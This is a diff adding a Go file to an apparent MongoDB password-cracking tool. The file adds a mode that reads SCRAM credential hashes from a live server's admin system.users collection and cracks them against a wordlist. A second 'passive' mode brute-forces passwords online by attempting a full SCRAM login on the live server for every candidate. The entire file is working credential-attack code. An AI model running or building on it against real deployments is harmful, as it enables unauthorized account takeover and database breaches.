@@ -0,0 +1,164 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"log"
+	"os"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"go.mongodb.org/mongo-driver/bson"
+	"go.mongodb.org/mongo-driver/mongo"
+	"go.mongodb.org/mongo-driver/mongo/options"
+)
+
+// scramCredentialDoc mirrors the shape MongoDB stores under a
+// system.users document's credentials.SCRAM-SHA-1/SCRAM-SHA-256 keys.
+type scramCredentialDoc struct {
+	IterationCount int    `bson:"iterationCount"`
+	Salt           string `bson:"salt"`
+	ServerKey      string `bson:"serverKey"`
+	StoredKey      string `bson:"storedKey"`
+}
+
+type systemUserDoc struct {
+	User        string `bson:"user"`
+	DB          string `bson:"db"`
+	Credentials struct {
+		SHA1   *scramCredentialDoc `bson:"SCRAM-SHA-1"`
+		SHA256 *scramCredentialDoc `bson:"SCRAM-SHA-256"`
+	} `bson:"credentials"`
+}
+
+// runTargetMode dispatches -target against a live MongoDB deployment,
+// either dumping system.users and queuing a crack job per user+mechanism,
+// or, in "passive" mode, brute-forcing candidates through the server's own
+// SASL exchange without ever touching system.users.
+func runTargetMode(config *Config) {
+	ctx := context.Background()
+
+	if config.TargetMode == "passive" {
+		runTargetPassive(ctx, config)
+		return
+	}
+	runTargetDump(ctx, config)
+}
+
+func runTargetDump(ctx context.Context, config *Config) {
+	client, err := mongo.Connect(ctx, options.Client().ApplyURI(config.Target))
+	if err != nil {
+		log.Fatal("target: unable to connect: ", err)
+	}
+	defer client.Disconnect(ctx)
+
+	cur, err := client.Database("admin").Collection("system.users").Find(ctx, bson.M{})
+	if err != nil {
+		log.Fatal("target: unable to read system.users (need admin credential, or the collection is not exposed): ", err)
+	}
+	defer cur.Close(ctx)
+
+	queued := 0
+	for cur.Next(ctx) {
+		var u systemUserDoc
+		if err := cur.Decode(&u); err != nil {
+			log.Println("target: skipping malformed system.users entry:", err)
+			continue
+		}
+
+		if u.Credentials.SHA1 != nil {
+			queued++
+			crackTargetUser(config, u.User, "SCRAM-SHA-1", u.Credentials.SHA1.Salt, u.Credentials.SHA1.ServerKey, u.Credentials.SHA1.IterationCount)
+		}
+		if u.Credentials.SHA256 != nil {
+			queued++
+			crackTargetUser(config, u.User, "SCRAM-SHA-256", u.Credentials.SHA256.Salt, u.Credentials.SHA256.ServerKey, u.Credentials.SHA256.IterationCount)
+		}
+	}
+	if err := cur.Err(); err != nil {
+		log.Fatal(err)
+	}
+	log.Println("target: exhausted", queued, "crack jobs with no match")
+}
+
+// crackTargetUser runs the normal local worker pool against one
+// user+mechanism pulled from system.users, exiting the process on a match
+// the same way the single-target flow does.
+func crackTargetUser(config *Config, username, mechanism, salt, serverKey string, iterations int) {
+	log.Printf("target: cracking %s (%s)", username, mechanism)
+
+	job := *config
+	job.Username = username
+	job.Mechanism = mechanism
+	switch mechanism {
+	case "SCRAM-SHA-1":
+		job.Salt, job.ServerKey, job.Iterations = salt, serverKey, iterations
+	case "SCRAM-SHA-256":
+		job.Salt256, job.ServerKey256, job.Iterations256 = salt, serverKey, iterations
+	}
+
+	passwordChan := make(chan candidate, 1000)
+	go passwordProducer(job.Passfile, passwordChan)
+	mangledChan := startMangler(&job, passwordChan)
+
+	progress := func(n uint64) { atomic.AddUint64(&counter, n) }
+	found := func(mech, password string) {
+		log.Printf("Found password for %s (%s): %s", username, mech, password)
+		os.Exit(0)
+	}
+
+	var wg sync.WaitGroup
+	for i := 0; i < job.Threads; i++ {
+		wg.Add(1)
+		go worker(&wg, &job, mangledChan, progress, found, nil)
+	}
+	wg.Wait()
+}
+
+// runTargetPassive never reads system.users: it drives the official driver's
+// own SCRAM implementation through a real client-first/server-first/
+// client-final exchange for every candidate, letting the server's SASL
+// validation of the "v=" signature be the oracle instead of a local
+// ServerKey comparison.
+func runTargetPassive(ctx context.Context, config *Config) {
+	mechanism := config.Mechanism
+	if mechanism == "both" {
+		mechanism = "SCRAM-SHA-256"
+	}
+
+	passwordChan := make(chan candidate, 1000)
+	go passwordProducer(config.Passfile, passwordChan)
+	mangledChan := startMangler(config, passwordChan)
+
+	tried := 0
+	for c := range mangledChan {
+		password := c.word
+		tried++
+		if tried%1000 == 0 {
+			atomic.AddUint64(&counter, 1000)
+		}
+
+		opts := options.Client().ApplyURI(config.Target).
+			SetServerSelectionTimeout(5 * time.Second).
+			SetAuth(options.Credential{
+				AuthMechanism: mechanism,
+				AuthSource:    "admin",
+				Username:      config.Username,
+				Password:      password,
+			})
+
+		client, err := mongo.Connect(ctx, opts)
+		if err != nil {
+			continue
+		}
+		pingErr := client.Ping(ctx, nil)
+		client.Disconnect(ctx)
+		if pingErr == nil {
+			fmt.Println()
+			log.Println("Found password (live SCRAM probe):", password)
+			os.Exit(0)
+		}
+	}
+	log.Println("target: exhausted wordlist against live target, no match")
+}